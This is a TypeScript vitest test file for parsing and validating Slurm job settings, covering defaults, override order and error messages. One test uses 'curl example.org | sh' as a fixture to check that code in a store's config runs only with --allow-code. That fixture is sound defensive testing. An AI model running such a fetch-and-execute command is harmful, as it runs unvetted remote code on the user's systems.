import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { readAssignment, readSettings, slurmSettings } from './settings.js';

const folder = mkdtempSync(join(tmpdir(), 'lottery-slurm-settings-'));
const store = join(folder, 'store');
const own = join(folder, 'config', 'lottery-lab');
const environment = { XDG_CONFIG_HOME: join(folder, 'config') };

afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe('settings of a submission', () => {
  beforeEach(() => {
    for (const made of [store, own]) {
      rmSync(made, { recursive: true, force: true });
      mkdirSync(made, { recursive: true });
    }
  });

  it('have defaults', () => {
    expect(slurmSettings({ store, environment })).toEqual({
      cpus: 1,
      lines: [],
      flags: [],
      most: 100,
      node: process.execPath,
    });
  });

  it("are the person's, which the store's override, which the command line's override", () => {
    writeFileSync(
      join(own, 'slurm.yaml'),
      'account: me\npartition: long\ntime: 90\nlines: |\n  module load a\n  export B=1\n',
    );
    writeFileSync(join(store, 'slurm.yaml'), 'partition: short\ncpus: 4\n');
    expect(slurmSettings({ store, environment, given: ['cpus=8', 'flags=[--exclusive]'] })).toMatchObject({
      account: 'me',
      partition: 'short',
      time: '90',
      cpus: 8,
      lines: ['module load a', 'export B=1'],
      flags: ['--exclusive'],
    });
  });

  it('of a store are executed only where the command line says so', () => {
    writeFileSync(join(store, 'slurm.yaml'), 'lines: [curl example.org | sh]\n');
    expect(() => slurmSettings({ store, environment })).toThrow(
      `${join(store, 'slurm.yaml')} sets lines, which is code; code that a file of a store names runs only when this command line says so: add --allow-code, or move it to ${join(own, 'slurm.yaml')}.`,
    );
    expect(slurmSettings({ store, environment, allowCode: true }).lines).toEqual(['curl example.org | sh']);
  });

  it('say which file is wrong', () => {
    writeFileSync(join(own, 'slurm.yaml'), 'partition: [a, b]\n');
    expect(() => slurmSettings({ store, environment })).toThrow(
      `${join(own, 'slurm.yaml')}: partition is ["a","b"]; expected a text on one line, without quotation marks and backslashes.`,
    );
    writeFileSync(join(own, 'slurm.yaml'), 'partition: {\n');
    expect(() => slurmSettings({ store, environment })).toThrow(/slurm\.yaml: it is not YAML/);
    writeFileSync(join(own, 'slurm.yaml'), 'short\n');
    expect(() => slurmSettings({ store, environment })).toThrow(/holds no settings; expected lines such as/);
  });
});

describe('one setting', () => {
  it.each([
    ['partion=short', '--slurm partion=short: unknown setting partion; did you mean partition?'],
    ['nonsense=1', /unknown setting nonsense; settings are account, partition, qos, time/],
    ['cpus=none', '--slurm cpus=none: cpus is "none"; expected a whole number of processors, at least 1.'],
    ['cpus=0', /cpus is 0; expected/],
    ['time=2h', /time is "2h"; expected a time limit in Slurm's format/],
    ['memory=lots', /memory is "lots"; expected a size such as 4G/],
    ['partition="a\\nb"', /partition is "a\\nb"; expected a text on one line/],
    ['flags=exclusive', /flags is "exclusive"; expected options of sbatch/],
    ['lines=["#SBATCH --mem=4G"]', /what sbatch should know belongs in flags/],
    ['node=node', /expected the absolute path of Node/],
    ['short', '--slurm short: expected key=value, such as partition=short.'],
    ['time={', /the value: it is not YAML/],
  ])('%s is refused with what was expected', (text, message) => {
    expect(() => readAssignment(text)).toThrow(message);
  });

  it.each([
    ['time=2:00:00', { time: '2:00:00' }],
    ['time=1-12', { time: '1-12' }],
    ['account=1234', { account: '1234' }],
    ['memory=4000', { memory: '4000' }],
    ['lines=module load nodejs', { lines: ['module load nodejs'] }],
    ['flags=--nice=100', { flags: ['--nice=100'] }],
  ])('%s is taken', (text, settings) => {
    expect(readAssignment(text)).toEqual(settings);
  });

  it('is refused where settings are none', () => {
    expect(() => readSettings(null, 'here')).toThrow('here holds no settings');
  });
});
